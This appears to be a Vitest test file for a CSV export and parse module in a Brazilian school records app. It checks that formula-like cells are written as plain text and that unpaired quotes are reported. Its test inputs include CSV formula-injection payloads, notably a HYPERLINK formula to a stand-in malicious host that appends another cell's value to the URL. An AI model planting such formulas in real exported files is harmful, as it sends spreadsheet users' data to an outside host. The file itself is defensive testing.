import { describe, expect, test } from 'vitest';
import { parseCsv, toCsv } from './csv.ts';

/** The cells of one CSV line as toCsv writes them, without the BOM and the CRLF. */
const line = (cells: (string | number)[]) => toCsv([], [cells], { bom: false }).replace(/\r\n$/, '');

describe('toCsv: what a spreadsheet would run is written as text', () => {
  test.each([
    ['a formula', '=HYPERLINK("http://mal.example","clique")', `"'=HYPERLINK(""http://mal.example"",""clique"")"`],
    // A student's transfer may carry a description on several lines: the formula must not run for that.
    ['a formula on two lines', '=HYPERLINK("http://mal.example/?"&B2,\n"Abrir")', `"'=HYPERLINK(""http://mal.example/?""&B2,\n""Abrir"")"`],
    ['a cell starting with @', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['a minus sign before text', '-abc', `"'-abc"`],
    ['a plus sign', '+55 11 5555', `"'+55 11 5555"`],
    ['a tab before a formula', '\t=1+1', `"'\t=1+1"`],
  ])('%s', (_label, cell, written) => {
    expect(line([cell])).toBe(written);
  });

  test('numbers stay numbers, also negative ones the reports write as text in the Brazilian format', () => {
    expect(line([-105, '-105', '-7,4', '-1.234,5', 'Ana Souza'])).toBe('-105;-105;-7,4;-1.234,5;Ana Souza');
  });
});

describe('parseCsv', () => {
  test('says where a quote opens or closes without its pair', () => {
    expect(parseCsv('Matrícula;Nome\r\n1;Ana\r\n2;"Bia" Souza\r\n3;Caio\r\n').unpairedQuoteAt).toBe(3);
    expect(parseCsv('Matrícula;Nome\r\n1;"Ana\r\n2;Bia\r\n').unpairedQuoteAt).toBe(2);
  });

  test('quotes in their pairs, a separator and a line break inside one are a cell', () => {
    const { rows, unpairedQuoteAt } = parseCsv('Matrícula;Nome;Série\r\n1;"Luís; o ""Segundo""\r\nde Souza";1A\r\n2;Ana;1B\r\n');
    expect(unpairedQuoteAt).toBeNull();
    expect(rows.slice(1, 3)).toEqual([
      ['1', 'Luís; o "Segundo"\r\nde Souza', '1A'],
      ['2', 'Ana', '1B'],
    ]);
  });
});
